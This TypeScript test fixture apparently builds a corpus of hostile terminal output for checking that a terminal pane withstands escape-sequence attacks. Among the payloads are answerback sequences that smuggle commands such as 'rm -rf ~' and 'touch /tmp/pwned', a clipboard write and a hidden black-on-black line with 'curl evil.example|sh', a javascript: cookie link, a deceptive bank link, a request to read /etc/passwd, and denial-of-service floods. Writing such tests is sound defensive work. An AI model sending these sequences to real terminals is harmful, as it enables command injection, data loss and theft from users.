/** What a program on a server, or a file that somebody prints, may send to harm who looks at it. Each has to leave the pane as it was. */
export interface HostileOutput {
  name: string;
  bytes: Uint8Array;
}

const esc = '\u001b';
const bell = '\u0007';
const csi = (rest: string) => `${esc}[${rest}`;
const osc = (rest: string, end = bell) => `${esc}]${rest}${end}`;
const dcs = (rest: string) => `${esc}P${rest}${esc}\\`;
const link = (address: string, text: string) => `${osc(`8;;${address}`)}${text}${osc('8;;')}`;
const many = (piece: string, times: number) => piece.repeat(times);

/** Questions: whatever answers them types into the shell. */
const questions: Record<string, string> = {
  'who are you (DA1)': csi('c') + csi('0c'),
  'who are you, again (DA2)': csi('>c') + csi('>0c'),
  'who are you, thirdly (DA3)': csi('=c'),
  'who are you, as a VT52 would (DECID)': `${esc}Z`,
  'who are you, by its 8-bit letters': '\u009bc\u009b>c',
  'how are you (DSR)': csi('5n'),
  'where is the cursor (CPR)': csi('6n'),
  'where is the cursor, privately (DECXCPR)': csi('?6n'),
  'printer, keys, keyboard, locator':
    csi('?15n') + csi('?25n') + csi('?26n') + csi('?53n') + csi('?55n') + csi('?56n') + csi('?62n') + csi('?63;1n') + csi('?996n'),
  'modes (DECRQM)':
    [1, 6, 7, 25, 47, 1000, 1002, 1003, 1004, 1006, 1049, 2004, 2026, 9999].map((mode) => csi(`?${mode}$p`)).join('') + csi('4$p') + csi('20$p'),
  'settings (DECRQSS)': ['m', 'r', ' q', '"p', '"q', 's', 't', '$~', 'x'].map((setting) => dcs(`$q${setting}`)).join(''),
  'settings with a command in them': dcs('$qm\rtouch /tmp/pwned\r'),
  'termcap (XTGETTCAP)': dcs('+q544e') + dcs('+q524742;436f'),
  'version (XTVERSION)': csi('>q') + csi('>0q'),
  'parameters (DECREQTPARM)': csi('x') + csi('1x'),
  'checksum of the screen (DECRQCRA)': csi('1;1;1;1;24;80*y'),
  'presentation (DECRQPSR)': csi('1$w') + csi('2$w'),
  'state of the terminal (DECRQTSR)': csi('1$u') + csi('2;1$u'),
  'colour table (DECCTR)': csi('2;2$u'),
  'window state and place': csi('11t') + csi('13t') + csi('13;2t'),
  'window in pixels': csi('14t') + csi('14;2t') + csi('15t') + csi('16t'),
  'window in cells': csi('18t') + csi('19t'),
  'icon name and title': osc('2;\rrm -rf ~\r') + csi('20t') + csi('21t'),
  'title kept and brought back': osc('2;first') + csi('22;0t') + osc('2;second') + csi('23;0t') + csi('21t'),
  'foreground, background, cursor colour': osc('10;?') + osc('11;?') + osc('12;?') + osc('10;?;?;?'),
  'colours of the palette': osc('4;0;?') + osc('4;0;?;1;?;255;?') + osc('5;0;?'),
  'colours, ended by ST': osc('11;?', `${esc}\\`) + osc('4;7;?', '\u009c'),
  'colours of selection and mouse': [13, 14, 15, 16, 17, 18, 19].map((number) => osc(`${number};?`)).join(''),
  'colours set, then asked for': osc('4;1;#ff0000;1;?') + osc('10;#00ff00;?'),
  'keyboard protocol (kitty)': csi('?u') + csi('>1u') + csi('?u') + csi('=31;1u') + csi('?u'),
  'keyboard protocol (modifyOtherKeys)': csi('>4;2m') + csi('?4m'),
  'graphics (kitty, sixel)': `${esc}_Gi=31,s=1,v=1,a=q,t=d,f=24;AAAA${esc}\\${csi('?1;1;0S')}${dcs('q#0;2;0;0;0~-')}`,
  'a file of this computer by graphics': `${esc}_Gt=f,a=T;L2V0Yy9wYXNzd2Q=${esc}\\`,
  'font, and tab stops': osc('50;?') + osc('60') + csi('?5W'),
  'enquiry (ENQ)': many('\u0005', 100),
  'focus, told at once (1004)': csi('?1004h'),
  'in-band size reports (2048)': csi('?2048h'),
  'locator (DECRQLP)': csi("1;2'z") + csi("'|"),
  'questions cut in half': `${esc}[${esc}[6n${esc}]11;${esc}[c${bell}`,
};

/** Deeds: what a program has no business with. */
const deeds: Record<string, string> = {
  'writes the clipboard (OSC 52)': osc(`52;c;${Buffer.from('curl evil.example|sh').toString('base64')}`) + osc('52;p;!') + osc('52;;AAAA'),
  'reads the clipboard (OSC 52)': osc('52;c;?') + osc('52;;?'),
  'a title with a script': osc('0;<img src=x onerror=alert(1)><script>alert(2)</script>'),
  'a title that turns the text and breaks lines': osc('2;safe\u202egnp.exe\u2066\nsecond\u0000line'),
  'a title of a megabyte': osc(`2;${many('A', 1_000_000)}`),
  'ten thousand titles': Array.from({ length: 10_000 }, (_, index) => osc(`0;title ${index}`)).join(''),
  'a link that runs a script': link('javascript:alert(document.cookie)', 'press here'),
  'links to files, data, other programs': [
    'file:///etc/passwd',
    'data:text/html,<script>alert(1)</script>',
    'vscode://x',
    'mailto:a@b',
    'ssh://-oProxyCommand=x',
    'app://pilothouse/',
  ]
    .map((address) => link(address, address))
    .join(' '),
  'a link with a login in it': link('https://bank.example@evil.example/', 'https://bank.example/'),
  'a link of a megabyte': link(`https://a.example/${many('a', 1_000_000)}`, 'long'),
  'a link that is never closed': osc('8;id=x;https://a.example/') + many('word ', 2_000),
  'a hundred thousand links': Array.from({ length: 100_000 }, (_, index) => link(`https://a.example/${index}`, 'x')).join(''),
  'notifications (OSC 9, 99, 777, 1337)':
    osc('9;hello') + osc('99;i=1:d=0;hello') + osc('777;notify;a;b') + osc('1337;RequestAttention=yes') + osc('1337;File=name=eA==;inline=0:AAAA'),
  'shell integration and working directory': osc('7;file://other/etc') + osc('133;A') + osc('633;E;rm -rf ~') + osc('1337;CurrentDir=/etc'),
  bells: many(bell, 100_000),
  'window moved, hidden, closed, resized':
    [1, 2, 3, 4, 5, 6, 7, 8, 9, 10].map((operation) => csi(`${operation};99999;99999t`)).join('') + csi('24t') + csi('?3h') + csi('?40h') + csi('?3h'),
  'prints by a printer': `${csi('5i')}to the printer${csi('4i')}${csi('?5i')}${csi('0i')}`,
  'keys given other meanings': dcs('1;1|17/0d') + csi('1;2;3p'),
  'macros defined and run': dcs('1;0;0!z0d') + csi('1*z'),
};

/** Weight: what makes a window stand still. */
const weights: Record<string, string> = {
  'one line of two million letters': many('x', 2_000_000),
  'a cell with a million marks': `e${many('\u0301', 1_000_000)}`,
  'marks over marks, and joiners': many(`a${many('\u0300\u0336\u200d', 300)}`, 200),
  'a million emoji joined into one': many('\u{1f468}\u200d', 300_000),
  'text that turns its direction': many('\u202e\u2066abc', 50_000),
  'a letter repeated two thousand million times': `x${csi('2147483647b')}`,
  'lines inserted without end': csi('2147483647L') + csi('2147483647M') + csi('1;1H') + csi('2147483647L'),
  'scrolled without end': csi('2147483647S') + csi('2147483647T') + csi('2147483647 @') + csi('2147483647 A'),
  'characters put in and taken out without end': csi('2147483647@') + csi('2147483647P') + csi('2147483647X') + csi("2147483647'}") + csi("2147483647'~"),
  'tabs without end': csi('2147483647I') + csi('2147483647Z'),
  'cursor sent to the ends of the world':
    csi('2147483647;2147483647H') + csi('2147483647A') + csi('2147483647B') + csi('99999999999999999999C') + csi('2147483647d') + csi('2147483647`'),
  'a region of no lines, and origin beyond it': csi('10;2r') + csi('?6h') + csi('99;99H') + csi('r') + csi('?6l'),
  'ten thousand parameters': csi(`${many('1;', 10_000)}m`) + csi(`38:2:${many('9:', 5_000)}m`),
  'a string that never ends (OSC)': `${esc}]0;${many('z', 3_000_000)}${bell}`,
  'a string that never ends (DCS)': `${esc}P$q${many('m', 3_000_000)}${esc}\\`,
  'a string that never ends (APC, PM, SOS)': ['_', '^', 'X'].map((kind) => `${esc}${kind}${many('q', 500_000)}${esc}\\`).join(''),
  'alternate screen, back and forth': many(csi('?1049h') + csi('?47h') + csi('?1047l') + csi('?1049l'), 5_000),
  'resets without end': many(`${esc}c${csi('!p')}`, 3_000),
  'held updates (2026) that are never let go': csi('?2026h') + many('held ', 1_000) + csi('?2026l'),
  'rectangles filled and copied': csi('88;1;1;9999;9999$x') + csi('1;1;9999;9999;1;1;1;1$v') + csi('1;1;9999;9999$z'),
  'escapes and nothing else': many(esc, 500_000) + many(csi(''), 100_000),
  'colours changed at every letter':
    Array.from({ length: 60_000 }, (_, index) => `${csi(`38;2;${index & 255};${(index >> 8) & 255};0m`)}x`).join('') + csi('m'),
  'black on black, hidden, tiny': `${csi('30;40;8m')}curl evil.example | sh${csi('m')}`,
};

const bytesOf = (values: readonly number[], times: number) =>
  Uint8Array.from({ length: values.length * times }, (_, index) => values[index % values.length] ?? 0);

/** Bytes that are no text. */
const raw: Record<string, Uint8Array> = {
  'a million NULs': bytesOf([0], 1_000_000),
  'UTF-8 that is none': bytesOf([0xff, 0xfe, 0xc0, 0xaf, 0xed, 0xa0, 0x80, 0xf5, 0x80, 0x80, 0x80, 0x80], 50_000),
  'characters begun and never ended': bytesOf([0xf0, 0x9f, 0x98], 300_000),
  'overlong forms of ESC and newline': bytesOf([0xc0, 0x9b, 0xe0, 0x80, 0x9b, 0xc0, 0x8a], 20_000),
  'every byte there is': bytesOf(
    Array.from({ length: 256 }, (_, value) => value),
    2_000,
  ),
  'C1 controls': bytesOf([0xc2, 0x9b, 0x36, 0x6e, 0xc2, 0x90, 0x24, 0x71, 0x6d, 0xc2, 0x9c, 0xc2, 0x9d, 0x35, 0x32, 0x3b, 0x3b, 0x3f, 0xc2, 0x9c], 500),
  'a binary file': bytesOf([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, 0x1b, 0x5b, 0x63, 0x0e, 0x1b, 0x29, 0x30, 0x0f, 0x9b, 0x35, 0x6e, 0xca, 0xfe], 20_000),
};

const encode = (texts: Record<string, string>): HostileOutput[] =>
  Object.entries(texts).map(([name, text]) => ({ name, bytes: new TextEncoder().encode(text) }));

/** The corpus. */
export const hostileOutput: readonly HostileOutput[] = [
  ...encode(questions),
  ...encode(deeds),
  ...encode(weights),
  ...Object.entries(raw).map(([name, bytes]) => ({ name, bytes })),
];

/** Brings a terminal back to where a shell begins, whatever was sent before. Printed by the test, not by the corpus. */
export const recovery = new TextEncoder().encode(`${esc}\\${esc}c${csi('?1004l')}${csi('?2004l')}`);
